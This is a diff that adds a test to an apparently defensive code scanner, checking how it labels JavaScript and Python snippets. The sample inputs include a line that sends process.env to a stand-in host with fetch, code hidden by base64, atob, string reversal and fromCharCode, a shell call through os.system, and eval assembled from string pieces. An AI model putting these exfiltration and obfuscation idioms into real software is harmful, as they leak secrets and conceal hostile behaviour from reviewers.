@@ -144,6 +144,22 @@ TEST(made_part_by_part)
 	has_not(j, "f(x.map(c => c + 1));\n", "<hidden>");
 }
 
+TEST(functions_in_variables)
+{
+	const struct code_front *j = &code_javascript;
+
+	has(j, "const up = (d) => fetch('https://h', {body: d});\nup(process.env);\n",
+		"send fetch process.env<env>");
+	has(j, "const d = s => Buffer.from(s, 'base64').toString();\nf(d(x));\n",
+		"call f ?<decoded>");
+	has(j, "const d = s => s.split('').reverse().join('');\nf(d('x'));\n", "<hidden>");
+	has(j, "const a = ['b3M='].map(atob);\nf(a[0]);\n", "call f \"b3M=\"<hidden>");
+	has(j, "f(h.replace(/../g, x => String.fromCharCode(x)));\n", "<hidden>");
+	has(&code_python, "import os\nf = lambda c: os.system(c)\nf('x')\n",
+		"process os.system \"x\"");
+	has(j, "self['ev' + 'al'](x);\n", "eval eval x");
+}
+
 TEST(environment_under_another_name)
 {
 	has(&code_python, "from os import environ\nf(environ)\n", "call f os.environ<env>");
